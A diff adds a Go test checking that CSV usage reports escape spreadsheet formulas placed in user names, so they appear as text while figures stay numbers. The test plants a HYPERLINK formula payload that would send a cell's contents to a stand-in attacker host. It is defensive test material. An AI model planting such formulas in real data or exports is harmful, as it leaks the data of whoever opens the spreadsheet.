@@ -192,3 +192,53 @@ func TestReportEmailPreference(t *testing.T) {
 		t.Error("ticking it again should turn the email back on")
 	}
 }
+
+// TestReportCSVDefusesFormulas: names come from sign-up and SSO; a name a
+// spreadsheet would run reaches the cluster and team CSVs as text, while
+// the figures stay numbers.
+func TestReportCSVDefusesFormulas(t *testing.T) {
+	for _, d := range storetest.Dialects {
+		t.Run(d, func(t *testing.T) {
+			env, root, alice, _, team := reportEnv(t, d)
+			evil := `=HYPERLINK("http://evil.example/?"&A1,"open")`
+			must(t, env.DB.Gorm.Exec(`UPDATE users SET name = ? WHERE email = ?`, evil, "alice@example.org").Error)
+			for _, tc := range []struct {
+				c    *webtest.Client
+				path string
+			}{
+				{root, "/admin/usage?week=2026-W49&format=csv&table=users"},
+				{alice, "/usage/team/" + itoa(team) + "?week=2026-W49&format=csv&table=members"},
+			} {
+				res := tc.c.Get(tc.path)
+				rows, err := csv.NewReader(strings.NewReader(res.Body.String())).ReadAll()
+				if res.Code != http.StatusOK || err != nil {
+					t.Fatalf("%s: %d %v", tc.path, res.Code, err)
+				}
+				found := false
+				for _, row := range rows {
+					for _, cell := range row {
+						if cell == "'"+evil {
+							found = true
+						}
+						if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumberCell(cell) {
+							t.Errorf("%s: live formula cell %q", tc.path, cell)
+						}
+					}
+				}
+				if !found {
+					t.Errorf("%s: the name is not in the CSV as text: %v", tc.path, rows)
+				}
+			}
+		})
+	}
+}
+
+func isNumberCell(s string) bool {
+	s = strings.TrimSuffix(s, "%")
+	for i, c := range s {
+		if !(c >= '0' && c <= '9' || c == '.' || (i == 0 && (c == '-' || c == '+'))) {
+			return false
+		}
+	}
+	return len(s) > 1
+}
